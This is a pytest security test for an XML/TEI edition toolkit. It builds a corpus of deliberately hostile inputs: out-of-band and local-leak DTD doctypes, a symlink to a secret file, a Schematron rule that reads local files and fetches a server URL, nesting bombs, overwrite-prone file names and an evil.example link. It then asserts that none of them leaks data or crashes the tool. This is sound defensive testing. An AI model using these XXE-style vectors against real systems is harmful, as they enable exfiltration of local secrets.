"""Every attack of issue 15 in one edition: the build, validation, rendering and exports end
with a status, never a traceback; the local server hears nothing; the canary (a local
secret's text) is in no output; and the one good document is built all the same."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import SOURCES, TEI_DIR
from oob_server import CANARY, OutOfBandServer, files_containing, local_leak_dtd

GOOD = next(SOURCES.glob("000_*.txt"))
GOOD_TEI = next(TEI_DIR.glob("000_*.xml")).read_text(encoding="utf-8")


def teikit(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "teikit.cli", *args], capture_output=True, text=True,
                          timeout=900, cwd=cwd)


def with_doctype(text: str, url: str) -> str:
    declaration, _, rest = text.partition("?>\n")
    return f'{declaration}?>\n<!DOCTYPE TEI SYSTEM "{url}">\n{rest}'


def hostile_edition(root: Path, server: OutOfBandServer) -> Path:
    edition = root / "edition"
    sources, tei = edition / "sources", edition / "tei"
    sources.mkdir(parents=True)
    tei.mkdir()
    for name in ("register.xml", "bibliography.xml"):
        shutil.copy(TEI_DIR / name, tei / name)
    letter = GOOD.read_text(encoding="utf-8")
    shutil.copy(GOOD, sources / GOOD.name)
    (sources / "deep.txt").write_text("Some text " + "[a " * 400 + "]" * 400 + "\n")  # nesting bomb
    (sources / "index.txt").write_text(letter, encoding="utf-8")  # would overwrite the index page
    (sources / "register.txt").write_text(letter, encoding="utf-8")  # would replace the register
    (sources / "a letter?.txt").write_text(letter, encoding="utf-8")  # cannot be linked
    (sources / "link.txt").symlink_to(server.secret)  # publishes a file from outside
    (sources / "big.txt").write_text("Letter\n\n" + "in Moscow at Bucharest near Hanoi " * 3000 + "\n")
    # hand-made TEI files: an out-of-band DTD, a local DTD leaking into an attribute default, too deep
    (tei / "oob.xml").write_text(with_doctype(GOOD_TEI, server.dtd_url), encoding="utf-8")
    (tei / "local.xml").write_text(with_doctype(GOOD_TEI, local_leak_dtd(root, server.secret).as_uri()),
                                   encoding="utf-8")
    at = GOOD_TEI.index("<p>", GOOD_TEI.index("<body"))
    (tei / "deep-by-hand.xml").write_text(GOOD_TEI[:at] + "<p>" + "<hi>" * 150 + "x" + "</hi>" * 150 + "</p>"
                                  + GOOD_TEI[at:], encoding="utf-8")
    pointer = GOOD_TEI[:at] + '<p><persName ref="oob.xml#x">X</persName> <ref target="//evil.example/">y</ref></p>'
    (tei / "pointer.xml").write_text(pointer + GOOD_TEI[at:], encoding="utf-8")
    (edition / "mine.sch").write_text(
        '<sch:schema xmlns:sch="http://purl.oclc.org/dsdl/schematron" queryBinding="xslt2">'
        '<sch:pattern><sch:rule context="/*"><sch:report test="true()">'
        f"<sch:value-of select=\"unparsed-text('{server.secret.as_uri()}')\"/>"
        f"<sch:value-of select=\"doc('{server.base}/doc.xml')\"/></sch:report></sch:rule></sch:pattern></sch:schema>")
    return edition


@pytest.fixture()
def server(tmp_path: Path) -> Iterator[OutOfBandServer]:
    oob = OutOfBandServer(tmp_path / "outside")
    yield oob
    oob.close()


@pytest.mark.slow
def test_the_hostile_corpus(tmp_path: Path, server: OutOfBandServer) -> None:
    edition = hostile_edition(tmp_path, server)
    runs = {
        "build": teikit("build", "--jobs", "2", cwd=edition),
        "again": teikit("build", "--jobs", "2", cwd=edition),
        "validate": teikit("validate", "--phase", "edition", "tei", cwd=edition),
        "validate-json": teikit("validate", "--format", "json", "--schema", "mine.sch", "tei", cwd=edition),
        "render": teikit("render", *sorted(str(p) for p in (edition / "tei").glob("*.xml")),
                         "--view", "diplomatic", "--out", "rendered", cwd=edition),
        "names": teikit("names", "--unresolved", "tei", cwd=edition),
        "json": teikit("export", "json", cwd=edition),
        "package": teikit("export", "package", cwd=edition),
        "csv-over-register": teikit("export", "csv", "--out", "tei/register.xml", cwd=edition),
    }
    for name, run in runs.items():
        assert run.returncode in (0, 1), (name, run.returncode, run.stderr[-2000:])
        assert "Traceback" not in run.stdout + run.stderr, (name, run.stderr[-3000:])
        assert CANARY not in run.stdout + run.stderr, name
    assert runs["build"].returncode == 1 and runs["validate"].returncode == 1
    assert runs["csv-over-register"].returncode == 1
    json.loads(runs["validate-json"].stdout)  # the report is printed, whole
    assert server.requests() == []
    for outputs in ("build", "rendered", "tei"):  # sources/link.txt is the attack itself: not an output
        assert files_containing(edition / outputs, CANARY) == []
    built = edition / "build"
    assert (built / f"{GOOD.stem}.html").exists() and (built / "big.html").exists()
    assert (built / "edition.pdf").exists()
    assert "evil.example" not in (edition / "rendered" / "pointer.diplomatic.html").read_text(encoding="utf-8")
    assert not (edition / "tei" / "index.xml").exists() and not (edition / "tei" / "link.xml").exists()
    assert b"<TEI" in (edition / "tei" / "register.xml").read_bytes()
